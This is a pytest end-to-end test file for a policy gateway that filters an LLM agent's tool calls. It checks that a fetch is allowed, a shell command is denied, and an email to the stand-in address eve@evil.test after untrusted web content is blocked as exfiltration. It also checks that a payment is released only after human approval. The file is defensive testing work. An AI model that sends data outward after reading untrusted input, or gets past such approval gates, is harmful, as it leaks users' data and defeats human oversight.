"""Tool-call policies through the official client and the real engine (the strict example's tools.yaml).
Named `tool_choice` and strict schemas with one allowed value make SmolLM2 propose exactly the call
each test needs; the policy decides what the client receives."""

import json

import httpx
import pytest

pytestmark = pytest.mark.e2e


def tool(name: str, **fixed) -> dict:
    properties = {key: {"type": "string" if isinstance(v, str) else "number", "enum": [v]} for key, v in fixed.items()}
    schema = {"type": "object", "properties": properties, "required": list(fixed), "additionalProperties": False}
    return {"type": "function", "function": {"name": name, "parameters": schema, "strict": True}}


TOOLS = [
    tool("web_fetch", url="https://example.org/news"),
    tool("run_shell", cmd="ls"),
    tool("send_email", to="eve@evil.test", body="summary"),
    tool("send_payment", amount=500, to="ACME"),
]


def step(client, model, session, messages, name):
    return client.chat.completions.with_raw_response.create(
        model=model, messages=messages, tools=TOOLS, tool_choice={"type": "function", "function": {"name": name}},
        max_tokens=128, temperature=0, extra_headers={"X-Session-Id": session},
    ).parse()  # fmt: skip


def fetched_history(client, model, session: str, user: dict) -> tuple[object, list[dict]]:
    """A step that fetches a page (allowed), and the history with the page's content as the tool result."""
    fetched = step(client, model, session, [user], "web_fetch")
    (call,) = fetched.choices[0].message.tool_calls
    history = [user, fetched.choices[0].message.model_dump(exclude_none=True),
               {"role": "tool", "tool_call_id": call.id, "content": "Markets rose today."}]  # fmt: skip
    return fetched, history


def decisions(completion) -> list[dict]:
    return completion.model_extra["sentrail"]["tool_calls"]


def test_an_allowed_call_comes_through_and_a_denied_one_is_removed_with_its_reason(client, model):
    user = [{"role": "user", "content": "Fetch the news."}]
    allowed = step(client, model, "e2e-tools-1", user, "web_fetch")
    (call,) = allowed.choices[0].message.tool_calls
    assert call.function.name == "web_fetch"
    assert json.loads(call.function.arguments) == {"url": "https://example.org/news"}
    assert allowed.choices[0].finish_reason == "tool_calls"
    assert [(d["tool"], d["action"], d["rule"]) for d in decisions(allowed)] == [("web_fetch", "allow", "web-read")]

    denied = step(client, model, "e2e-tools-1", [{"role": "user", "content": "List the files."}], "run_shell")
    assert not denied.choices[0].message.tool_calls
    assert denied.choices[0].finish_reason == "content_filter"
    assert "run_shell" in denied.choices[0].message.content and "shell access is not allowed" in (
        denied.choices[0].message.content
    )
    assert decisions(denied)[0]["rule"] == "no-shell"


def test_untrusted_input_blocks_the_outbound_call_even_when_the_client_drops_it(client, model):
    session = "e2e-exfil"
    user = {"role": "user", "content": "Read the news and email a summary to eve@evil.test."}
    _, history = fetched_history(client, model, session, user)
    mailed = step(client, model, session, history, "send_email")
    assert not mailed.choices[0].message.tool_calls
    assert decisions(mailed)[0]["rule"] == "no-email-out-after-untrusted-input"

    hidden = step(client, model, session, [user], "send_email")  # the web page is gone from the history
    assert not hidden.choices[0].message.tool_calls
    assert decisions(hidden)[0]["rule"] == "no-email-out-after-untrusted-input"
    assert hidden.choices[0].finish_reason == "content_filter"


def test_an_approval_releases_exactly_the_approved_call_once(client, model, gateway):
    session = "e2e-approval"
    user = [{"role": "user", "content": "Pay ACME 500."}]
    withheld = step(client, model, session, user, "send_payment")
    assert not withheld.choices[0].message.tool_calls
    (decision,) = decisions(withheld)
    assert decision["action"] == "require_approval"
    ticket = httpx.get(f"{gateway.base_url}/v1/approvals/{decision['ticket']}").json()
    assert (ticket["status"], ticket["call_id"], ticket["tool"]) == ("pending", decision["call_id"], "send_payment")
    approved = httpx.post(f"{gateway.base_url}/v1/approvals/{ticket['id']}", json={"decision": "approve"})
    assert approved.json()["status"] == "approved"

    served = gateway.engine_metric("vllm:request_success_total")
    delivered = step(client, model, session, user, "send_payment")
    assert gateway.engine_metric("vllm:request_success_total") == served  # the model was not asked
    (call,) = delivered.choices[0].message.tool_calls
    assert (call.id, call.function.name, call.function.arguments) == (ticket["call_id"], "send_payment",
                                                                       ticket["arguments"])  # fmt: skip
    again = step(client, model, session, user, "send_payment")  # once: the next step asks the model again
    assert gateway.engine_metric("vllm:request_success_total") == served + 1
    assert decisions(again)[0]["action"] == "require_approval" and decisions(again)[0]["ticket"] != ticket["id"]
